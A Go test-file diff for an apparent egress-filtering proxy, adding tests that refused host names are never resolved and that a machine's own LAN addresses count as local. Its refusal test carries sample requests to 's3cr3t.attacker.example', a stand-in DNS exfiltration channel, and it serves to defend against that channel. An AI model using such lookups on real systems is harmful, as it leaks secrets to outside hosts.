@@ -108,7 +108,8 @@ func TestAKeptAliveConnectionCannotReuseOneHostsDecision(t *testing.T) {
 }
 
 // TestANameForThisMachineIsLoopback: a name that resolves to loopback is
-// the person's own service, and is then dialled at the address checked.
+// put again as the person's own service (after it was allowed as a name),
+// and is then dialled at the address checked.
 func TestANameForThisMachineIsLoopback(t *testing.T) {
 	target := upstream(t, "127.0.0.2")
 	_, port, _ := net.SplitHostPort(target)
@@ -120,10 +121,75 @@ func TestANameForThisMachineIsLoopback(t *testing.T) {
 	c := dialProxy(t, p)
 	fmt.Fprintf(c, "GET http://rebind.example:%s/x HTTP/1.1\r\nHost: rebind.example:%s\r\n\r\n", port, port)
 	all, _ := io.ReadAll(c)
-	if len(r.asked) != 1 || !r.asked[0].Loopback {
-		t.Fatalf("asked %+v, want rebind.example marked loopback", r.asked)
+	if len(r.asked) != 2 || r.asked[0].Loopback || !r.asked[1].Loopback {
+		t.Fatalf("asked %+v, want rebind.example as a name, then marked loopback", r.asked)
 	}
 	if !strings.Contains(string(all), "hello from rebind.example") {
 		t.Fatalf("the allowed name was not reached at its checked address: %q", all)
+	}
+}
+
+// TestARefusedNameIsNeverLookedUp: the lookup itself would carry the name
+// to whoever serves its domain (secret.attacker.example), so a name is
+// decided on first and looked up only once it is allowed.
+func TestARefusedNameIsNeverLookedUp(t *testing.T) {
+	r := &recorder{allow: map[string]bool{}}
+	p := startProxy(t, r)
+	var looked []string
+	var mu sync.Mutex
+	p.resolve = func(_ context.Context, host string) ([]netip.Addr, error) {
+		mu.Lock()
+		defer mu.Unlock()
+		looked = append(looked, host)
+		return []netip.Addr{netip.MustParseAddr("127.0.0.2")}, nil
+	}
+	for _, req := range []string{
+		"GET http://s3cr3t.attacker.example/ HTTP/1.1\r\nHost: s3cr3t.attacker.example\r\n\r\n",
+		"CONNECT s3cr3t2.attacker.example:443 HTTP/1.1\r\nHost: s3cr3t2.attacker.example:443\r\n\r\n",
+	} {
+		c := dialProxy(t, p)
+		fmt.Fprint(c, req)
+		all, _ := io.ReadAll(c)
+		if !strings.Contains(string(all), "403") {
+			t.Fatalf("%q: got %q, want a refusal", req, all)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(looked) != 0 {
+		t.Fatalf("refused names were looked up: %q", looked)
+	}
+}
+
+// TestTheMachinesOwnAddressesAreItsOwn: a name that resolves to one of
+// this machine's interface addresses (its LAN address, say) reaches the
+// services listening on every address, so it counts as the machine's own
+// like loopback does, and a wildcard that allowed the name is not enough.
+func TestTheMachinesOwnAddressesAreItsOwn(t *testing.T) {
+	var own netip.Addr
+	ifaddrs, err := net.InterfaceAddrs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, ia := range ifaddrs {
+		if p, err := netip.ParsePrefix(ia.String()); err == nil && !p.Addr().IsLoopback() {
+			own = p.Addr()
+			break
+		}
+	}
+	if !own.IsValid() {
+		t.Skip("this machine has no address but loopback")
+	}
+	if !isThisMachine(own) || isThisMachine(netip.MustParseAddr("192.0.2.77")) {
+		t.Fatalf("isThisMachine(%s) = %v, isThisMachine(192.0.2.77) = %v", own, isThisMachine(own), isThisMachine(netip.MustParseAddr("192.0.2.77")))
+	}
+	r := &recorder{allow: map[string]bool{"dev1.corp.example": true}}
+	p := startProxy(t, r)
+	p.resolve = func(context.Context, string) ([]netip.Addr, error) { return []netip.Addr{own}, nil }
+	c := dialProxy(t, p)
+	fmt.Fprint(c, "GET http://dev1.corp.example:9/ HTTP/1.1\r\nHost: dev1.corp.example:9\r\n\r\n")
+	_, _ = io.ReadAll(c)
+	if len(r.asked) != 2 || !r.asked[1].Loopback {
+		t.Fatalf("asked %+v, want dev1.corp.example put again as this machine's", r.asked)
 	}
 }
